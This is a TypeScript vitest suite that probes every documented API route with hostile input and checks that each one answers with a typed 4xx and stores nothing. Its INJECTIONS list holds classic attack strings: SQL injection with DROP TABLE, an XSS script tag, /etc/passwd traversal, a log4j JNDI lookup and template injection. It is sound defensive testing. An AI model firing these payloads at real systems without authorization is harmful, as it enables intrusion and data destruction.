// Hostile input on every documented route: oversized, wrong types, deeply nested, malformed
// Unicode, injection strings in path and query parameters. Every answer must be a typed 4xx
// (`{"error":{"code","message"}}`), never a 5xx, and nothing may be stored: every D1 table
// keeps its row count. The walk reads the routes from the OpenAPI registry, so a new route is
// probed the day it is described.
import { beforeAll, describe, expect, it } from "vitest";
import type { RouteDoc } from "../../src/http/openapi/registry";
import { describedRoutes } from "../../src/http/openapi/registry";
import "../../src/http/openapi";
import { MAX_BODY_BYTES } from "../../src/http/validate";
import { auth, call, env } from "../helpers";
import { type SignedUp, signUp } from "../marketplace/helpers";

/** Tables that record refusals themselves (the audit trail) may grow; nothing else may. */
const MAY_GROW = new Set(["audit_log"]);

const INJECTIONS = [
  "' OR '1'='1",
  "1; DROP TABLE customers; --",
  "<script>alert(1)</script>",
  "../../../../etc/passwd",
  "%00",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4j lookup, sent as text on purpose.
  "${jndi:ldap://x/a}",
  "{{7*7}}",
  "\u202egnp.exe",
  "x".repeat(5000),
];

const routes = [...describedRoutes()].map(([name, doc]) => ({ name, doc }));

async function rowCounts(): Promise<Map<string, number>> {
  const tables = await env.DB.prepare(
    "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' AND name NOT LIKE '_cf_%' AND name <> 'd1_migrations'",
  ).all<{ name: string }>();
  const counts = new Map<string, number>();
  for (const { name } of tables.results) {
    if (MAY_GROW.has(name)) continue;
    const row = await env.DB.prepare(`SELECT count(*) AS n FROM "${name}"`).first<{ n: number }>();
    counts.set(name, row?.n ?? 0);
  }
  return counts;
}

let customer: SignedUp;

function headersFor(doc: RouteDoc): Record<string, string> {
  const kinds = typeof doc.auth === "string" ? [doc.auth] : doc.auth;
  if (kinds.includes("operator")) return { ...auth };
  if (kinds.includes("customer")) return { authorization: `Bearer ${customer.key}` };
  return {};
}

function pathOf(doc: RouteDoc, param = "does-not-exist"): string {
  return doc.path.replace(/\{[^}]+\}/g, encodeURIComponent(param));
}

/** The same value with every string replaced, keys kept. */
function mapStrings(value: unknown, to: (s: string) => string): unknown {
  if (typeof value === "string") return to(value);
  if (Array.isArray(value)) return value.map((v) => mapStrings(v, to));
  if (value && typeof value === "object") return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, mapStrings(v, to)]));
  return value;
}

function hasString(value: unknown): boolean {
  return JSON.stringify(mapStrings(value, () => "\u0001")).includes("\\u0001");
}

/** A value of another JSON type than `value`. */
function wrongType(value: unknown): unknown {
  if (typeof value === "string") return 12345;
  if (typeof value === "number") return "not a number";
  if (typeof value === "boolean") return "yes";
  if (Array.isArray(value)) return "not a list";
  if (value && typeof value === "object") return ["not", "an", "object"];
  return { unexpected: true };
}

interface Probe {
  name: string;
  body: BodyInit;
  /** The status it must answer when not one of `any 4xx`. */
  status?: number;
}

function bodyProbes(example: unknown): Probe[] {
  const probes: Probe[] = [
    { name: "oversized", body: JSON.stringify({ pad: "x".repeat(MAX_BODY_BYTES) }), status: 413 },
    { name: "not JSON", body: "{not: json", status: 400 },
    { name: "a list", body: "[]", status: 400 },
    { name: "a string", body: '"hello"', status: 400 },
    { name: "null", body: "null", status: 400 },
    { name: "deeply nested", body: `${'{"a":'.repeat(20_000)}1${"}".repeat(20_000)}`, status: 400 },
    { name: "malformed UTF-8", body: new Uint8Array([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xc0, 0xaf, 0x22, 0x7d]), status: 400 },
  ];
  if (hasString(example)) {
    probes.push({ name: "lone surrogates", body: JSON.stringify(mapStrings(example, (s) => `${s}\ud800`)), status: 400 });
    probes.push({ name: "NUL bytes", body: JSON.stringify(mapStrings(example, (s) => `${s}\u0000`)), status: 400 });
  }
  if (example && typeof example === "object" && !Array.isArray(example))
    for (const [key, value] of Object.entries(example))
      probes.push({ name: `${key} of the wrong type`, body: JSON.stringify({ ...example, [key]: wrongType(value) }), status: 400 });
  return probes;
}

async function expectTypedRefusal(where: string, res: Response, status?: number): Promise<void> {
  const text = await res.text();
  if (status !== undefined) expect(res.status, `${where}: ${text}`).toBe(status);
  expect(res.status, `${where}: ${text}`).toBeGreaterThanOrEqual(400);
  expect(res.status, `${where}: ${text}`).toBeLessThan(500);
  // A page a browser follows (the e-mail verification link) refuses with a page, not JSON.
  if (res.headers.get("content-type")?.startsWith("text/html")) return;
  const body = JSON.parse(text) as { error?: { code?: unknown; message?: unknown } };
  expect(typeof body.error?.code, `${where}: ${text}`).toBe("string");
  expect(typeof body.error?.message, `${where}: ${text}`).toBe("string");
}

describe("hostile input on every documented route", () => {
  beforeAll(async () => {
    customer = await signUp("Hostile Input Probe Ltd");
  });

  it("covers the routes (the registry is not empty)", () => {
    expect(routes.length).toBeGreaterThan(50);
  });

  it("refuses hostile bodies with a typed 4xx and stores nothing", async () => {
    for (const { name, doc } of routes.filter((r) => r.doc.body)) {
      const before = await rowCounts();
      for (const probe of bodyProbes(doc.example)) {
        const res = await call(pathOf(doc), {
          method: doc.method.toUpperCase(),
          headers: { ...headersFor(doc), "content-type": "application/json" },
          body: probe.body,
        });
        // A webhook refuses anything unsigned before it reads the body: 401 is its typed refusal.
        // A route on a resource may look the resource up first: with none, any typed 4xx will do.
        const expected = doc.path.startsWith("/v1/webhooks") ? 401 : doc.path.includes("{") ? undefined : probe.status;
        await expectTypedRefusal(`${name} (${probe.name})`, res, expected);
      }
      expect(await rowCounts(), `${name}: hostile bodies stored something`).toEqual(before);
    }
  });

  it("refuses injection strings in path parameters without a server error or a write", async () => {
    const withParams = routes.filter((r) => r.doc.path.includes("{"));
    expect(withParams.length).toBeGreaterThan(20);
    const before = await rowCounts();
    for (const { name, doc } of withParams) {
      for (const value of INJECTIONS) {
        const init: RequestInit = { method: doc.method.toUpperCase(), headers: { ...headersFor(doc), "content-type": "application/json" } };
        if (doc.body) init.body = JSON.stringify(doc.example);
        const res = await call(pathOf(doc, value), init);
        await expectTypedRefusal(`${name} with {param} = ${JSON.stringify(value.slice(0, 40))}`, res);
      }
    }
    expect(await rowCounts()).toEqual(before);
  });

  it("answers injection strings and nonsense in query parameters with a 4xx or an honest empty answer, never a 5xx", async () => {
    const withQuery = routes.filter((r) => r.doc.method === "get" && r.doc.query);
    expect(withQuery.length).toBeGreaterThan(5);
    for (const { name, doc } of withQuery) {
      const query = doc.query && "shape" in doc.query ? doc.query : doc.query?.in;
      const keys = Object.keys((query as { shape?: object } | undefined)?.shape ?? {});
      for (const key of keys) {
        for (const value of [...INJECTIONS, "-1", "1e309", "NaN", "", "\ud800"]) {
          const path = `${pathOf(doc)}?${new URLSearchParams({ [key]: value })}`;
          const res = await call(path, { headers: headersFor(doc) });
          const where = `${name}?${key}=${JSON.stringify(value.slice(0, 40))}`;
          expect(res.status, `${where}: ${await res.clone().text()}`).toBeLessThan(500);
          if (res.status >= 400) await expectTypedRefusal(where, res);
          if (key === "limit" && !doc.path.includes("{") && ["-1", "1e309", "NaN", ...INJECTIONS].includes(value))
            expect(res.status, where).toBe(400);
        }
      }
    }
  });
});
